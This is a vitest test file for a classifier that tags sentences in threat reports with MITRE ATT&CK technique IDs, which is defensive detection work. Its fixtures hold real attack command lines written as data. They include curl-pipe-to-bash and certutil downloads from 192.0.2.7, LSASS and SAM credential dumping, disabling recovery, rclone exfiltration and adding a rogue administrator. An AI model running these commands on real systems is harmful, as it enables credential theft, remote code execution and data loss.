import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { splitSentences } from '../../../../src/classify/mentions/sentences.ts';
import { QUOTED_TELLS, TELLS, TOLD_IDS } from '../../../../src/classify/mentions/tells/index.ts';
import { toldBy } from '../../../../src/classify/mentions/tells/tell.ts';
import { attackTechnique, currentTechniqueId } from '../../../../src/knowledge/attack.ts';
import { loadCatalogue } from '../../../../src/knowledge/catalogue.ts';

const quoted = (text: string) => [...toldBy(QUOTED_TELLS, text)];
const told = (text: string) => [...toldBy(TELLS, text)];

describe('what is quoted', () => {
  test.each([
    ['net user fernadmin Pa55 /add', 'T1136.001'],
    ['net localgroup administrators fernadmin /add', 'T1098.007'],
    ['rundll32 comsvcs.dll, MiniDump 644 C:\\PerfLogs\\x.bin full', 'T1003.001'],
    ['reg save HKLM\\SAM C:\\PerfLogs\\a', 'T1003.002'],
    ['certutil -urlcache -f http://192.0.2.7/a a.exe', 'T1105'],
    ['They ran whoami, quser and ipconfig /all.', 'T1033'],
    ['They ran whoami, quser and ipconfig /all.', 'T1016'],
    ['sc \\\\FS01 create upd binPath= C:\\upd.exe', 'T1543.003'],
    ['bcdedit /set {default} recoveryenabled no', 'T1490'],
    ['powershell -NoP -enc SQBFAFgAKABOAGUAdwAtAE8A', 'T1027.010'],
    ['curl -sSL http://192.0.2.7/s.sh | bash', 'T1059.004'],
    ['*/5 * * * * root /tmp/.a', 'T1053.003'],
    ['The line goes into /etc/ld.so.preload.', 'T1574.006'],
    ['esxcli vm process kill --type=force', 'T1675'],
    ['StopLogging was called a minute later.', 'T1685.002'],
    ['New-InboxRule hid what the bank wrote.', 'T1114.003'],
    ['The node answered 169.254.169.254.', 'T1552.005'],
    ['rclone copy D:\\finance remote:x', 'T1567.002'],
    ['a rar.exe a -hp x.rar D:\\finance', 'T1560.001'],
  ])('%s', (text, id) => {
    expect(quoted(text)).toContain(id);
  });

  test.each([
    'The chronicle of the church is old.',
    'A net user is a fisherman.',
    'They use the web to shop.',
    'The report names no program.',
  ])('nothing in: %s', (text) => {
    expect(quoted(text)).toEqual([]);
  });
});

describe('verbs with their objects', () => {
  test.each([
    ['The trojan takes pictures of the desktop.', 'T1113'],
    ['Employees got e-mails with a workbook attached.', 'T1566.001'],
    ['The message holds a link to a form.', 'T1566.002'],
    ['They phoned the service desk and gave the name of a nurse.', 'T1566.004'],
    ['The group logged in to the VPN with the credentials of a gardener.', 'T1078'],
    ['The camera still had its default password.', 'T1078.001'],
    ['The thieves relay the real log-in page.', 'T1557'],
    ['The implant looks for running antivirus products.', 'T1518.001'],
    ['It enumerates all running processes.', 'T1057'],
    ['It sends the victim’s public IP address home.', 'T1016'],
    ['The stub is packed with UPX.', 'T1027.002'],
    ['Its strings are encrypted with XOR.', 'T1027'],
    ['It resolves its imports at run time by hashes.', 'T1027.007'],
    ['The payload is stored in the resource section of the dropper.', 'T1027.009'],
    ['It calls NtUnmapViewOfSection on a suspended process.', 'T1055.012'],
    ['The loader downloads and runs the next stage.', 'T1105'],
    ['All of it is posted to hxxps://fern[.]example/in.', 'T1041'],
    ['The crew moved over RDP to the file server.', 'T1021.001'],
    ['They copied the encryptor to 40 hosts.', 'T1570'],
    ['Backups were deleted first.', 'T1490'],
    ['They wiped all virtual machines.', 'T1485'],
    ['The gang asks for two million dollars.', 'T1657'],
    ['Antivirus was switched off on each host.', 'T1685'],
    ['They gave their files the date of a system program.', 'T1070.006'],
  ])('%s', (text, id) => {
    expect(told(text)).toContain(id);
  });

  test.each([
    ['The domain resolves to the IP address 192.0.2.7.', 'T1016'],
    ['The screenshot below shows the form.', 'T1113'],
    ['The process took two weeks.', 'T1057'],
    ['Scripts are injected into the payment page.', 'T1055'],
    ['The next stage is a loader.', 'T1074.001'],
    ['An ISO image holds the shortcut.', 'T1027.003'],
  ])('a noun alone is none: %s', (text, id) => {
    expect(told(text)).not.toContain(id);
  });
});

test('ids are techniques as ATT&CK has them', () => {
  for (const id of TOLD_IDS) {
    expect(currentTechniqueId(id)).toBe(id);
    expect(attackTechnique(id)?.status, id).toBe('current');
  }
});

test('hints are in lower case, and long enough to be looked up', () => {
  const wrong = TELLS.tells
    .flatMap(({ hints }) => hints)
    .filter((hint) => hint.length < 3 || hint !== hint.toLowerCase());
  expect(wrong).toEqual([]);
});

test('whatever a sentence fits, it has a hint of', () => {
  const folder = new URL('../../../fixtures/articles/', import.meta.url);
  const texts = [
    ...readdirSync(folder).map((name) => readFileSync(new URL(name, folder), 'utf8')),
    ...loadCatalogue().flatMap(({ tests }) => tests.map(({ text }) => text)),
  ];
  const sentences = texts.flatMap((text) => splitSentences(text).map((sentence) => sentence.text));
  expect(sentences.length).toBeGreaterThan(900);
  const missed = sentences.flatMap((text) => {
    const found = toldBy(TELLS, text);
    return TELLS.tells
      .filter(({ ids, says }) => says.test(text) && !ids.some((id) => found.has(id)))
      .map(({ ids }) => `${ids.join()}: ${text}`);
  });
  expect(missed).toEqual([]);
});

test.each(['e-mail ', 'steal ', 'encrypt ', 'a', 'cmd /c ', '\\', '%', 'exploit server '])(
  'a long run of %j is read in time that grows with its length: it would time out otherwise',
  (part) => {
    expect(toldBy(TELLS, part.repeat(2000).slice(0, 10_000)).size).toBeGreaterThanOrEqual(0);
  },
);
